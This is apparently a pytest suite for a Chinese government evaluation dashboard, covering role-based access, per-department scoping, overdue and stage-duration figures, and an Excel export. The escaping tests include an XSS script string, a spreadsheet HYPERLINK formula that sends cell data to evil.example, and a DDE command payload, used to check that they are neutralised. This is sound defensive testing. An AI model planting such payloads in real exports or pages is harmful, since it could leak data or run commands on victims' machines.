"""统计分析: who may see it, what each scope shows, the SQL figures and the Excel export."""

from __future__ import annotations

import re
from datetime import UTC, date, datetime, timedelta
from io import BytesIO
from typing import Any

import pytest
from flask import Flask
from openpyxl import load_workbook
from sqlalchemy import event, select

import scoring
from tests.conftest import login
from tests.workflow.targets_world import approve_targets, past_deadlines
from workflow.admin import operations as admin_ops
from workflow.core.extensions import db
from workflow.dashboard import queries as stats
from workflow.dashboard.export import neutralise
from workflow.evaluations import operations
from workflow.models import AuditLog, Cycle, Evaluation, Org, Project, User

DEPT_1 = "江苏省政务服务管理办公室"
DEPT_2 = "江苏省数据局"
DEPT_2_PROJECT = "公共数据平台运维"


def _user(username: str) -> User:
    user = db.session.scalar(select(User).where(User.username == username))
    assert user is not None
    return user


def _count(html: str, state: str) -> int:
    match = re.search(rf'data-testid="count-{state}".*?fs-3 fw-semibold">(\d+)<', html, re.S)
    assert match, state
    return int(match.group(1))


def _new_cycle(name: str = "2099年度测试任务", **overrides: Any) -> Cycle:
    values: dict[str, Any] = {
        "year": 2099,
        "name": name,
        "scheme_key": "jiangsu-2022",
        "scheme": scoring.builtin_scheme("jiangsu-2022"),
        "deadline_submit": date.today() + timedelta(days=30),
        "deadline_review": date.today() + timedelta(days=40),
        "deadline_confirm": date.today() + timedelta(days=50),
        "reminder_days": [7, 3, 1],
        "day_kind": "calendar",
    }
    values.update(overrides)
    return admin_ops.create_cycle(**values)


def _new_evaluation(cycle: Cycle, unit_name: str, project_name: str) -> Evaluation:
    unit = db.session.scalar(select(Org).where(Org.name == unit_name))
    assert unit is not None
    project = Project(unit=unit, name=project_name)
    db.session.add(project)
    approve_targets(project, cycle)
    evaluation = operations.create_evaluation(project, cycle)
    db.session.commit()
    return evaluation


# --- who may open it -------------------------------------------------------------------------


@pytest.mark.parametrize("username", ["finance", "reviewer", "reviewer_2", "sysadmin"])
@pytest.mark.parametrize("url", ["/dashboard/", "/dashboard/export.xlsx"])
def test_allowed_roles_open_the_dashboard(login_as: Any, username: str, url: str) -> None:
    assert login_as(username).get(url).status_code == 200


@pytest.mark.parametrize("username", ["unit_a", "unit_a_head", "unit_c"])
@pytest.mark.parametrize("url", ["/dashboard/", "/dashboard/export.xlsx"])
def test_unit_roles_get_404(login_as: Any, username: str, url: str) -> None:
    resp = login_as(username).get(url)
    assert resp.status_code == 404
    assert "页面不存在" in resp.get_data(as_text=True)


def test_anonymous_is_sent_to_login(client: Any) -> None:
    resp = client.get("/dashboard/")
    assert resp.status_code == 302
    assert "/login" in resp.headers["Location"]


def test_unknown_cycle_is_404(login_as: Any) -> None:
    assert login_as("finance").get("/dashboard/?cycle=99999").status_code == 404


# --- what each scope shows -------------------------------------------------------------------


def test_finance_sees_every_department(app: Flask, login_as: Any) -> None:
    with app.app_context():
        cycle = db.session.scalar(select(Cycle))
        assert cycle is not None
        past_deadlines(cycle)
        db.session.commit()
    html = login_as("finance").get("/dashboard/").get_data(as_text=True)
    assert "全部单位" in html
    assert {
        s: _count(html, s)
        for s in ("draft", "self_scored", "dept_review", "finance_confirmation", "confirmed")
    } == {
        "draft": 3,
        "self_scored": 1,
        "dept_review": 1,
        "finance_confirmation": 2,
        "confirmed": 1,
    }
    assert DEPT_1 in html and DEPT_2 in html
    # confirmed: never overdue (the 抽查复核 panel above may name it for its risk reasons)
    assert DEPT_2_PROJECT not in html.split('id="late-title"', 1)[1]
    assert "数据共享交换平台升级" in html  # dept 2's draft, past its 2023 deadline


def test_reviewer_sees_only_its_department(login_as: Any) -> None:
    html = login_as("reviewer").get("/dashboard/").get_data(as_text=True)
    assert f"{DEPT_1}所属单位" in html
    assert DEPT_2 not in html
    assert "数据共享交换平台升级" not in html
    assert _count(html, "draft") == 2
    assert _count(html, "confirmed") == 0
    assert _count(html, "finance_confirmation") == 2


def test_second_reviewer_sees_only_department_2(login_as: Any) -> None:
    html = login_as("reviewer_2").get("/dashboard/").get_data(as_text=True)
    assert DEPT_2 in html
    assert "政务服务中心窗口服务提升" not in html
    assert _count(html, "draft") == 1 and _count(html, "confirmed") == 1


def test_chart_is_server_rendered_svg_with_classes(login_as: Any) -> None:
    html = login_as("finance").get("/dashboard/").get_data(as_text=True)
    svg = html[html.index('<svg class="grade-chart"') : html.index("</svg>")]
    assert 'class="grade-you"' in svg  # the confirmed and approved ones
    assert "style=" not in html and "<script>" not in svg
    assert DEPT_1 in svg and DEPT_2 in svg


def test_names_are_escaped(app: Flask, login_as: Any) -> None:
    with app.app_context():
        org = db.session.scalar(select(Org).where(Org.name == DEPT_2))
        assert org is not None
        org.name = "<script>alert(1)</script>数据局"
        db.session.commit()
    html = login_as("finance").get("/dashboard/").get_data(as_text=True)
    assert "<script>alert(1)" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;数据局" in html


# --- the figures -----------------------------------------------------------------------------


def test_overdue_follows_the_deadline_of_the_current_stage(any_app: Flask) -> None:
    with any_app.app_context():
        finance = _user("finance")
        cycle = db.session.scalar(select(Cycle))
        assert cycle is not None
        # The demo's deadlines lie ahead: nothing is late until they are in the past.
        assert stats.overdue(finance, date.today()) == []
        past_deadlines(cycle)
        db.session.commit()
        late = stats.overdue(finance, date.today())
        assert len(late) == 7  # everything but the confirmed one: the deadlines are 2023
        assert all(r.days_overdue > 0 for r in late)
        # Move only the review deadline into the future: drafts and finance stay late.
        cycle.deadline_review = date.today() + timedelta(days=1)
        cycle.deadline_confirm = date.today() + timedelta(days=2)
        db.session.commit()
        states = sorted(r.state.value for r in stats.overdue(finance, date.today()))
        assert states == ["draft", "draft", "draft"]
        # The deadline day itself is not late.
        assert stats.overdue(finance, cycle.deadline_submit) == []


def test_average_days_per_stage_come_from_the_audit_log(any_app: Flask) -> None:
    with any_app.app_context():
        cycle = _new_cycle()
        ev = _new_evaluation(cycle, "江苏省政务服务中心", "停留天数测试项目")
        unit_b, reviewer = _user("unit_b"), _user("reviewer")
        t0 = datetime(2099, 1, 1, 9, 0, tzinfo=UTC)
        ev.created_at = t0
        ev.state = "dept_review"
        ev.stage_entered_at = t0 + timedelta(days=5)
        db.session.commit()
        for actor, name, src, dst, at in (
            (unit_b, "submit", "draft", "self_scored", t0 + timedelta(days=2)),
            (reviewer, "start_review", "self_scored", "dept_review", t0 + timedelta(days=5)),
        ):
            db.session.add(
                AuditLog(
                    evaluation_id=ev.id,
                    actor_id=actor.id,
                    actor_name=actor.name,
                    role=actor.role,
                    event=name,
                    from_state=src,
                    to_state=dst,
                    created_at=at,
                )
            )
        db.session.commit()
        now = t0 + timedelta(days=9)
        days = {d.state.value: d for d in stats.stage_days(_user("finance"), now, cycle.id)}
        assert days["draft"].completed == 1 and days["draft"].completed_avg == 2
        assert days["self_scored"].completed == 1 and days["self_scored"].completed_avg == 3
        assert days["dept_review"].completed == 0 and days["dept_review"].completed_avg is None
        assert days["dept_review"].current == 1 and days["dept_review"].current_avg == 4
        # Department 2's reviewer does not see department 1's evaluation at all.
        other = {d.state.value: d for d in stats.stage_days(_user("reviewer_2"), now, cycle.id)}
        assert other["draft"].completed == 0 and other["dept_review"].current == 0


def test_demo_world_stage_days(any_app: Flask) -> None:
    with any_app.app_context():
        days = {d.state.value: d for d in stats.stage_days(_user("finance"), datetime.now(UTC))}
        assert days["draft"].completed == 5  # five demo evaluations were submitted
        assert days["finance_confirmation"].completed == 1  # one was confirmed
        assert days["confirmed"].current == 1 and days["confirmed"].current_avg is None


def test_dashboard_query_count_does_not_grow_with_rows(app: Flask) -> None:
    """SQL aggregates, not one query per evaluation."""
    statements: list[str] = []

    def _count_statements(*args: Any) -> None:
        statements.append(str(args[2]))

    def render() -> int:
        client = app.test_client()
        login(client, "finance")
        statements.clear()
        with app.app_context():
            event.listen(db.engine, "before_cursor_execute", _count_statements)
        try:
            assert client.get("/dashboard/?cycle=all").status_code == 200
            assert client.get("/dashboard/export.xlsx?cycle=all").status_code == 200
        finally:
            with app.app_context():
                event.remove(db.engine, "before_cursor_execute", _count_statements)
        return len(statements)

    before = render()
    with app.app_context():
        cycle = _new_cycle()
        for i in range(25):
            _new_evaluation(cycle, "江苏省大数据管理中心", f"批量项目{i}")
    after = render()
    assert after == before


def test_dashboard_renders_on_both_databases(any_app: Flask) -> None:
    client = any_app.test_client()
    login(client, "finance")
    html = client.get("/dashboard/").get_data(as_text=True)
    assert _count(html, "draft") == 3
    assert client.get("/dashboard/export.xlsx?cycle=all").status_code == 200


# --- the export ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ('=HYPERLINK("http://x","y")', '\'=HYPERLINK("http://x","y")'),
        ("+1+2", "'+1+2"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("正常项目", "正常项目"),
        (3, 3),
    ],
)
def test_neutralise(value: Any, expected: Any) -> None:
    assert neutralise(value) == expected


def _workbook(resp: Any) -> Any:
    assert resp.status_code == 200
    assert resp.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert "attachment" in resp.headers["Content-Disposition"]
    return load_workbook(BytesIO(resp.data))


def test_export_neutralises_formula_like_project_names(app: Flask, login_as: Any) -> None:
    evil = '=HYPERLINK("http://evil.example/steal?x="&A1,"点击查看")'
    with app.app_context():
        project = db.session.scalar(
            select(Project).where(Project.name == "一体化政务服务平台安全运维")
        )
        assert project is not None
        project.name = evil
        unit = db.session.scalar(select(Org).where(Org.name == "江苏省政务服务中心"))
        assert unit is not None
        unit.name = "@cmd|' /C calc'!A0"
        db.session.commit()
    wb = _workbook(login_as("finance").get("/dashboard/export.xlsx"))
    assert set(wb.sheetnames) == {"汇总", "等级分布", "逾期", "各阶段平均天数", "明细", "指标明细"}
    values = [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    formulas = [
        c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"
    ]
    assert formulas == []
    assert "'" + evil in values
    assert "'@cmd|' /C calc'!A0" in values
    assert not any(isinstance(v, str) and v.startswith(("=", "+", "-", "@")) for v in values)


def test_export_matches_the_scope(login_as: Any) -> None:
    wb = _workbook(login_as("reviewer").get("/dashboard/export.xlsx"))
    detail = wb["明细"]
    departments = {row[1] for row in detail.iter_rows(min_row=2, values_only=True)}
    assert departments == {DEPT_1}
    assert detail.max_row == 1 + 6
    summary = {row[0]: row[1] for row in wb["汇总"].iter_rows(min_row=2, values_only=True)}
    assert summary["合计"] == 6
    assert summary["范围"] == f"{DEPT_1}所属单位"


def test_export_follows_the_cycle_filter(app: Flask, login_as: Any) -> None:
    with app.app_context():
        cycle = _new_cycle()
        _new_evaluation(cycle, "江苏省大数据管理中心", "新任务项目")
        cycle_id = cycle.id
    client = login_as("finance")
    detail = _workbook(client.get(f"/dashboard/export.xlsx?cycle={cycle_id}"))["明细"]
    assert [row[3] for row in detail.iter_rows(min_row=2, values_only=True)] == ["新任务项目"]
    # The newest cycle is the default; "all" counts both.
    html = client.get("/dashboard/").get_data(as_text=True)
    assert "共 1 份" in html and "没有逾期的评价表" in html
    html = client.get("/dashboard/?cycle=all").get_data(as_text=True)
    assert "共 9 份" in html
